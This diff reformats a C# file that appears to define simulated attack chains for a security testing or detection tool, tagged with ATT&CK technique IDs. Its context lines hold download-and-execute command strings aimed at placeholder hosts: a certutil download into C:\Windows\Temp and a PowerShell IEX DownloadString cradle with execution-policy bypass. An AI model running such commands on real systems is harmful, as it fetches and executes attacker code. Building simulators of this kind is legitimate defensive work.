@@ -23,7 +23,8 @@ internal static class ServerChains
                 @"certutil -urlcache -split -f <=bad-url>/<=bad-file>.exe C:\Windows\Temp\<=payload>64.exe",
                 new Scene(
                     "certutil.exe",
-                    @"certutil  -urlcache -split -f <=bad-url>/<=bad-file>.exe C:\Windows\Temp\<=payload>64.exe") { Technique = "T1105" })),
+                    @"certutil  -urlcache -split -f <=bad-url>/<=bad-file>.exe C:\Windows\Temp\<=payload>64.exe")
+                { Technique = "T1105" })),
         new ChainPart(
             "w3wp",
             Shell(
@@ -47,9 +48,9 @@ internal static class ServerChains
             new Scene(
                 "powershell.exe",
                 "powershell  -nop -exec bypass -c \"IEX (New-Object Net.WebClient).DownloadString('<=bad-url>/<=bad-file>.ps1')\"")
-        {
-            Technique = "T1059.001",
-            Then =
+            {
+                Technique = "T1059.001",
+                Then =
             [
                 new(
                     "bitsadmin.exe",
@@ -76,7 +77,7 @@ internal static class ServerChains
                     ],
                 },
             ],
-        })));
+            })));
 
     public static readonly AttackChain Lateral = new("lateral-movement", [AdminWorkstation, DeveloperWorkstation, OfficeWorkstation],
         new ChainPart(
@@ -206,5 +207,6 @@ internal static class ServerChains
         new(
             "cmd.exe",
             $@"""C:\Windows\system32\cmd.exe"" /c {command}",
-            $@"""cmd.exe"" /c {command}") { Technique = "T1059.003", Then = then };
+            $@"""cmd.exe"" /c {command}")
+        { Technique = "T1059.003", Then = then };
 }
